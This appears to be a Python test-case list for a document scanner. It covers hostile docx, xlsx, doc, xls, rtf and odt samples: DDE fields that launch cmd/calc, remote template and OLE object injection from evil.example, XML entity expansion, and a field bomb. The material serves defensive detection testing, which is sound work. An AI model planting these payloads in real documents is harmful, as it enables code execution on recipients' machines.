"""Fields and links that start or fetch something, and declarations that unpack to too much."""

import random

from tests.scanning import samples
from tests.scanning.hostile.case import HELD, UNSAFE, Case, flagged
from tests.scanning.hostile.office import (
    DDE_FIELD,
    SPLIT_FIELD,
    entities,
    link,
    odt,
    rich_text,
    with_field,
    with_relation,
    word_saying,
)


def with_fields(parts: int) -> bytes:
    text = b"<a>" + b"<w:instrText>PAGE</w:instrText>" * 500_000 + b"</a>"
    noise = random.Random(1).randbytes(3 << 20)
    return samples.office(
        "docx", {**{f"word/header{n}.xml": text for n in range(parts)}, "word/noise.bin": noise}
    )


CASES = (
    Case(
        "a document of a million fields in each of ten parts",
        lambda: with_fields(10),
        "docx",
        HELD,
        told="longer",
    ),
    Case("a field of docx that starts a program", lambda: with_field(DDE_FIELD), "docx", HELD, told="DDE"),
    Case("the same, in pieces", lambda: with_field(SPLIT_FIELD), "docx", HELD, told="DDE"),
    Case(
        "the same, in a header", lambda: with_field(SPLIT_FIELD, "word/header1.xml"), "docx", HELD, told="DDE"
    ),
    Case(
        "the same, in UTF-16",
        lambda: samples.office(
            "docx",
            {
                "word/footer1.xml": (
                    '<?xml version="1.0" encoding="UTF-16"?><a>' + DDE_FIELD + "</a>"
                ).encode("utf-16")
            },
        ),
        "docx",
        HELD,
        told="DDE",
    ),
    Case(
        "a link of xlsx that starts a program",
        lambda: samples.office(
            "xlsx",
            {"xl/externalLinks/externalLink1.xml": '<a><ddeLink ddeService="cmd" ddeTopic="/c calc"/></a>'},
        ),
        "xlsx",
        HELD,
        told="DDE",
    ),
    Case(
        "a field of doc that starts a program",
        lambda: word_saying(b'\x13 DDEAUTO cmd "/k calc" \x14result\x15'),
        "doc",
        HELD,
        told="DDE",
    ),
    Case(
        "the same, in UTF-16 of doc",
        lambda: word_saying("\x13DDE cmd \x15".encode("utf-16-le")),
        "doc",
        HELD,
        told="DDE",
    ),
    Case(
        "a link of xls that starts a program",
        lambda: samples.excel(link(b"cmd\x03/c calc")),
        "xls",
        HELD,
        told="DDE",
    ),
    Case(
        "a field of rtf that starts a program",
        lambda: rich_text(b"{\\field{\\*\\fldinst{ DDEAUTO cmd /k}}{\\fldrslt x}}"),
        "rtf",
        HELD,
        told="DDE",
    ),
    Case(
        "a cell of odt that starts a program",
        lambda: odt({"content.xml": "<a><table:dde-link/></a>"}),
        "odt",
        HELD,
        told="DDE",
    ),
    Case(
        "a template from the web",
        lambda: with_relation("attachedTemplate", "https://evil.example/a.dotm"),
        "docx",
        HELD,
        told="elsewhere",
    ),
    Case(
        "an object from the web",
        lambda: with_relation("oleObject", "mhtml:https://evil.example/a!x", "word/_rels/document.xml.rels"),
        "docx",
        HELD,
        told="elsewhere",
    ),
    Case(
        "a template of rtf from the web",
        lambda: rich_text(b"{\\*\\template http://evil.example/a}"),
        "rtf",
        HELD,
        told="elsewhere",
    ),
    flagged(
        "a template on a server",
        lambda: with_relation("attachedTemplate", "file:///\\\\server\\a.dotm"),
        "docx",
        "remote_parts",
    ),
    flagged("a link to the web", lambda: with_relation("hyperlink", "https://example.org/"), "docx"),
    flagged(
        "a template on the writer's disk",
        lambda: with_relation("attachedTemplate", "file:///C:\\a.dotx"),
        "docx",
    ),
    Case(
        "entities in a part of docx",
        lambda: samples.office("docx", entities("word/settings.xml")),
        "docx",
        UNSAFE,
    ),
    Case(
        "entities in the relations of docx",
        lambda: samples.office("docx", entities("_rels/.rels")),
        "docx",
        UNSAFE,
    ),
    Case(
        "entities in UTF-16 in a part of xlsx",
        lambda: samples.office("xlsx", {"xl/styles.xml": str(entities("a")["a"]).encode("utf-16")}),
        "xlsx",
        UNSAFE,
    ),
    Case("entities in odt", lambda: odt(entities("content.xml")), "odt", UNSAFE),
    Case("entities in the manifest of odt", lambda: odt({}, str(entities("a")["a"])), "odt", UNSAFE),
    flagged(
        "the manifest of an old odt",
        lambda: odt(
            {},
            '<!DOCTYPE manifest PUBLIC "-//OpenOffice.org//DTD Manifest 1.0//EN" "Manifest.dtd"><manifest/>',
        ),
        "odt",
    ),
)
